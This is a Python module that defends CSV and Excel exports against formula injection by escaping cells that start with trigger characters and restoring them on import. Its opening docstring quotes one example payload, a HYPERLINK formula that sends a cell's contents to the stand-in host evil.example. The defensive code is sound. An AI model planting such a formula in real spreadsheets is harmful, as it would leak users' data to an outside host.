"""Spreadsheet cells that cannot become formulas: the one rule every CSV and Excel writer and the import use.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and after a tab or carriage
return) as a formula, so a name like ``=HYPERLINK("http://evil.example/?x="&A1,"klik")`` in a download could
send data away or run a command. Following OWASP's advice on CSV injection, such a text cell is written with
one apostrophe before it: ``'=HYPERLINK(…)``, ``'+31 6 1234 5678``, ``'- eerste punt``.

The rule is reversible, so the import template round-trips exactly:

- written: a text starting with a trigger character gets one apostrophe before it; so does a text that already
  starts with an apostrophe followed by a trigger or another apostrophe (``'=x`` is written as ``''=x``);
- read: one leading apostrophe is dropped only when a trigger or another apostrophe follows it.

Any other text is left alone both ways: ``'s-Hertogenbosch`` is written and read as ``'s-Hertogenbosch``.
Numbers are never formulas and stay numbers. In Excel files every text cell is also stored with the string
type, never as a formula.
"""

from __future__ import annotations

import csv
import io
import math
import re
import sys
from collections.abc import Iterable, Mapping
from datetime import date, datetime
from numbers import Number
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# Characters an XLSX file cannot hold at all (XML 1.0); openpyxl refuses them.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_NOT_IN_SHEET_TITLE = re.compile(r"[\x00-\x1f\[\]:*?/\\]")


def _escaped_by_quote(text: str) -> bool:
    return len(text) > 1 and text[0] == QUOTE and (text[1] in TRIGGERS or text[1] == QUOTE)


def neutralise(text: str) -> str:
    """The text as a cell that no spreadsheet runs; :func:`restore` gives the text back."""
    if text.startswith(TRIGGERS) or _escaped_by_quote(text):
        return QUOTE + text
    return text


def restore(cell: str) -> str:
    """The text a cell written by :func:`neutralise` (or typed the same way in a spreadsheet) stands for."""
    return cell[1:] if _escaped_by_quote(cell) else cell


def _is_empty(value: object) -> bool:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return True
    # pandas' own missing values can only be there when pandas made the table; plain rows do without it.
    pandas = sys.modules.get("pandas")
    return pandas is not None and (value is pandas.NA or value is pandas.NaT)


def _is_number(value: object) -> bool:
    return isinstance(value, bool | Number) and not isinstance(value, complex)


def _safe_value(value: object) -> object:
    """Empty cells and numbers as they are (a number is never a formula); anything else as neutralised text."""
    if type(value) is str:  # most cells: spares the checks below, which took most of a large download's time
        return neutralise(value)
    if _is_empty(value) or _is_number(value) or isinstance(value, datetime | date):
        return value
    return neutralise(str(value))


def _is_plain_column(column: pd.Series) -> bool:
    import pandas as pd

    types = pd.api.types
    return bool(types.is_numeric_dtype(column) or types.is_bool_dtype(column) or types.is_datetime64_any_dtype(column))


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells (and headings) are neutralised; numbers, dates and empty cells are kept."""
    safe = frame.copy()
    safe.columns = [neutralise(str(column)) for column in frame.columns]
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        if not _is_plain_column(column):
            safe.isetitem(position, column.astype(object).map(_safe_value).to_numpy())
    return safe


def csv_text(frame: pd.DataFrame, separator: str = ",", decimal: str = ".") -> str:
    """The table as CSV text with every text cell neutralised.

    Dutch Excel reads ``;`` between cells and a decimal comma; numbers stay numbers either way, so a negative
    number is never mistaken for a formula.
    """
    return safe_frame(frame).to_csv(index=False, sep=separator, decimal=decimal)


def csv_bytes(frame: pd.DataFrame) -> bytes:
    return csv_text(frame).encode("utf-8")


def spreadsheet_csv_bytes(frame: pd.DataFrame, *, semicolon: bool = False) -> bytes:
    """A CSV download for spreadsheet programs: UTF-8 with a byte order mark, so Excel reads é and ë right;
    ``semicolon`` gives ``;`` between cells and decimal commas, as Dutch Excel expects."""
    text = csv_text(frame, separator=";", decimal=",") if semicolon else csv_text(frame)
    return text.encode("utf-8-sig")


def csv_rows_text(header: Iterable[str], rows: Iterable[Mapping[str, object]]) -> str:
    """CSV text for rows given as mappings (missing values empty), every text cell neutralised."""
    columns = list(header)
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([neutralise(column) for column in columns])
    for row in rows:
        writer.writerow([_safe_value(row.get(column, "")) for column in columns])
    return buffer.getvalue()


def _excel_value(value: object) -> object:
    if _is_empty(value):
        return None
    if _is_number(value):
        return value
    pandas = sys.modules.get("pandas")
    if pandas is not None and isinstance(value, pandas.Timestamp):
        return value.to_pydatetime()
    if isinstance(value, datetime | date):
        return value
    return _NOT_IN_XML.sub("\ufffd", neutralise(str(value)))


def excel_bytes(sheets: Mapping[str, pd.DataFrame], number_formats: Mapping[str, str] | None = None) -> bytes:
    """An XLSX workbook, one sheet per table; text cells are neutralised and typed as strings, never formulas.

    ``number_formats`` gives a column (by its heading) an Excel number format, such as ``0.00%`` for a share
    kept as a fraction: Excel then shows 68,15 % in a Dutch setting and still computes with 0.6815."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    for name, frame in sheets.items():
        sheet = workbook.create_sheet(title=_NOT_IN_SHEET_TITLE.sub("-", name)[:31] or "sheet")
        formats = [(number_formats or {}).get(str(column)) for column in frame.columns]
        for place, width in enumerate(_column_widths(frame), start=1):
            sheet.column_dimensions[get_column_letter(place)].width = width
        # The headings stay in view while scrolling, and each column can be filtered: as a reader of a long list
        # in Excel expects.
        sheet.freeze_panes = "A2"
        if len(frame.columns):
            sheet.auto_filter.ref = f"A1:{get_column_letter(len(frame.columns))}{len(frame) + 1}"
        sheet.append(_typed_row(sheet, list(frame.columns), WriteOnlyCell))
        for row in frame.itertuples(index=False, name=None):
            sheet.append(_typed_row(sheet, list(row), WriteOnlyCell, formats))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


#: Column widths in characters: wide enough for a heading such as "Met bibliotheek én zorg" and the values under
#: it (the first rows tell), never so wide that one long story takes the screen.
COLUMN_WIDTH = (8, 60)
_WIDTH_SAMPLE_ROWS = 200


def _column_widths(frame: pd.DataFrame) -> list[float]:
    widths = []
    for column in frame.columns:
        values = frame[column].head(_WIDTH_SAMPLE_ROWS)
        longest = max([len(str(column)), *(len(str(value)) for value in values if value is not None)])
        widths.append(float(min(max(longest + 2, COLUMN_WIDTH[0]), COLUMN_WIDTH[1])))
    return widths


def _typed_row(sheet: Any, values: list[object], cell_type: Any, formats: list[str | None] | None = None) -> list[Any]:
    cells = []
    for place, value in enumerate(values):
        converted = _excel_value(value)
        cell = cell_type(sheet, value=converted)
        if isinstance(converted, str):
            cell.data_type = "s"  # openpyxl would otherwise store a text starting with "=" as a formula
        elif formats and formats[place] and isinstance(converted, int | float | date):
            cell.number_format = formats[place]
        cells.append(cell)
    return cells
